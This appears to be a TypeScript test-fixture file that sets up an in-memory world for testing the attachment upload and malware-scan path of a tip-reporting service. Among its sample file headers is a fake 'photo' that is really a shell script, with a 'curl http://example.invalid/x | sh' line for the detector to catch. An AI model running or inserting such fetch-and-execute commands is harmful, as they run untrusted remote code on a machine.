/**
 * The world of the attachment tests, in memory: a tip sent with files through submitTip (so the
 * slots are the ones intake opens), the bucket the browser uploads to, the scan's ports, and the
 * tips table the classifier stored the tip in. Small real headers stand for the files.
 */
import type { Attachment } from '../../shared/attachments/attachment.ts';
import type { AttachmentCleaner } from '../../shared/attachments/ports.ts';
import { createClassifier } from '../../shared/classification/engine.ts';
import type { TipClassifier } from '../../shared/classification/types.ts';
import type { Tip } from '../../shared/tip/tip.ts';
import { parseOrThrow, webSubmissionSchema } from '../../shared/tip/submission.ts';
import { createSecretHasher } from '../../shared/tip/tracking-code.ts';
import { jurisdiction } from '../../shared/jurisdictions/index.ts';
import { scanUpload, type ScanOutcome } from '../../shared/usecases/attachments.ts';
import { submitTip } from '../../shared/usecases/submit-tip.ts';
import { fakeCleaner, fakeUploadSigner, fixedClock, magicBytesDetector, memoryAttachmentStore, memoryCodes, memoryEvidenceStorage, memoryQueue, sequentialIds } from '../support/fakes.ts';
import { memoryTips, storedTip, testPack } from '../support/tip-fakes.ts';

const encoder = new TextEncoder();
const bytesOf = (...parts: Array<number[] | string>) => new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...encoder.encode(part)] : part)));

/** The first bytes of real files, and a script that calls itself a photo. */
export const files = {
  jpeg: bytesOf([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', [0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xff, 0xd9]),
  png: bytesOf([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]),
  pdf: bytesOf('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  heic: bytesOf([0, 0, 0, 0x18], 'ftypheic', [0, 0, 0, 0], 'mif1heic'),
  script: bytesOf('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
} as const;

/** Everything a scan needs, and a tip sent with the given files. */
export async function attachmentWorld(declared: ReadonlyArray<{ fileName: string; contentType: string; size: number }>, options: { cleaner?: AttachmentCleaner } = {}) {
  const clock = fixedClock('2026-11-25T03:00:00.000Z');
  const ids = sequentialIds();
  const store = memoryAttachmentStore();
  const storage = memoryEvidenceStorage({ clock });
  const tips = memoryTips();
  const queue = memoryQueue();
  const classifierLoads = { count: 0 };
  let classifier: TipClassifier | undefined;
  const accepted = await submitTip(
    parseOrThrow(webSubmissionSchema(jurisdiction(testPack)), { text: 'Có người bán ma túy trong hẻm 45 Lê Văn Sỹ', attachments: declared }),
    'web',
    { queue, codes: memoryCodes(), hasher: createSecretHasher('a pepper long enough for tests'), clock, ids, retentionDays: 1825, attachments: { store, signer: fakeUploadSigner() } },
  );
  const uploads = accepted.uploads ?? [];
  const deps = {
    store,
    storage,
    detector: magicBytesDetector(),
    cleaner: options.cleaner ?? fakeCleaner(),
    tips,
    jurisdiction: testPack,
    loadClassifier: async () => {
      classifierLoads.count += 1;
      return (classifier ??= createClassifier({ pack: testPack }));
    },
    clock,
    ids,
  } as const;
  const world = {
    ...deps,
    deps,
    tipId: accepted.tipId,
    uploads,
    queue,
    classifierLoads,
    /** The slot of the nth declared file. */
    slot(index: number): Attachment {
      const upload = uploads[index];
      const record = upload && store.records.get(`${accepted.tipId}/${upload.id}`);
      if (!record) throw new Error(`No slot ${index}`);
      return record;
    },
    /** Stores the tip as the classifier would have (NEW, routed by its text to unit 27154 unless told otherwise). */
    storeTip(overrides: Partial<Tip> = {}): Tip {
      const tip = storedTip({ id: accepted.tipId, receivedAt: '2026-11-25T03:00:00.000Z', ...overrides });
      tips.put(tip);
      return tip;
    },
    /** Uploads bytes to the nth file's slot, as the browser does, and answers the notification S3 sends. */
    upload(index: number, bytes: Uint8Array, at = clock.now()) {
      const key = uploads[index]?.fields.key;
      if (!key) throw new Error(`No upload ${index}`);
      const eTag = storage.upload(key, bytes);
      return { key, eTag, size: bytes.length, eventTime: at.toISOString() };
    },
    /** Uploads and scans. */
    async scan(index: number, bytes: Uint8Array, at?: Date): Promise<ScanOutcome> {
      return scanUpload(world.upload(index, bytes, at), deps);
    },
  };
  return world;
}
